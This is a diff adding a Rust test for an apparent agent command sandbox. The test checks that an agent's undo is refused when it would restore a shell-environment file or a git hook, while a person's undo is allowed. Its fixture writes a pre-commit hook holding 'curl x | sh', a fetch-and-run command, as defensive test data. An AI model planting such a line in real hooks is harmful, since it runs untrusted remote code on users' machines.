@@ -208,6 +208,51 @@ fn http_run_commits_rolls_back_and_denies() {
     assert_eq!(v.as_array().map(Vec::len), Some(2), "{v}");
 }
 
+/// An agent's undo puts nothing back that a commit of the same change would have held for a
+/// person (a shell-environment file, a git hook inside a directory put back whole): it is
+/// refused (denied, nothing changed); a person's undo on the command line is not, and other
+/// undos of the agent's go through.
+#[test]
+fn an_agents_undo_is_judged_by_the_commit_rules() {
+    let s = Scratch::new("undo-judged");
+    native(As::Me, &s.ws, "echo 'use nix' > .envrc; mkdir -p lib/.git/hooks; echo 'curl x | sh' > lib/.git/hooks/pre-commit; echo ok > plain");
+    let srv = serve_with(&s, &[&s.ws], Some(&s.state));
+    let ws = s.ws.to_str().unwrap().to_string();
+    let person = |args: &[&str]| {
+        let out = txbox(As::Me, &s, args);
+        let v: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|_| panic!("{}", describe(&out)));
+        v
+    };
+    let rm = |what: &str| {
+        let v = person(&["--json", "run", "-C", &ws, "-c", what]);
+        assert_eq!(v["outcome"], "committed", "{v}");
+        v["tx"].as_str().unwrap().to_string()
+    };
+    // A person removes the file direnv would run; the agent may not put it back.
+    let envrc_tx = rm("rm .envrc");
+    let (st, u) = http(srv.port, "POST", &format!("/v1/tx/{envrc_tx}/undo"), auth(), None);
+    assert_eq!((st, u["outcome"].as_str(), u["exit_code"].as_i64()), (200, Some("denied"), Some(126)), "{u}");
+    assert!(u["error"].as_str().unwrap().contains("commit.shell-environment"), "{u}");
+    assert!(!s.ws.join(".envrc").exists(), "a refused undo changed something");
+    // A hook inside a directory put back whole is judged too.
+    let git = rm("rm -rf lib/.git");
+    let (st, u) = http(srv.port, "POST", &format!("/v1/tx/{git}/undo"), auth(), None);
+    assert_eq!((st, u["outcome"].as_str()), (200, Some("denied")), "{u}");
+    assert!(!s.ws.join("lib/.git").exists());
+    // Anything else the agent undoes as before.
+    let plain = rm("rm plain");
+    let (st, u) = http(srv.port, "POST", &format!("/v1/tx/{plain}/undo"), auth(), None);
+    assert_eq!((st, u["outcome"].as_str()), (200, Some("committed")), "{u}");
+    assert!(s.ws.join("plain").exists());
+    // The person may.
+    let v = person(&["--json", "undo", "-C", &ws, &git]);
+    assert_eq!(v["outcome"], "committed", "{v}");
+    assert!(s.ws.join("lib/.git/hooks/pre-commit").exists());
+    let v = person(&["--json", "undo", "-C", &ws, &envrc_tx]);
+    assert_eq!(v["outcome"], "committed", "{v}");
+    assert_eq!(std::fs::read_to_string(s.ws.join(".envrc")).unwrap(), "use nix\n");
+}
+
 #[test]
 fn http_undo_answers_with_the_run_result() {
     let s = Scratch::new("http-undo");
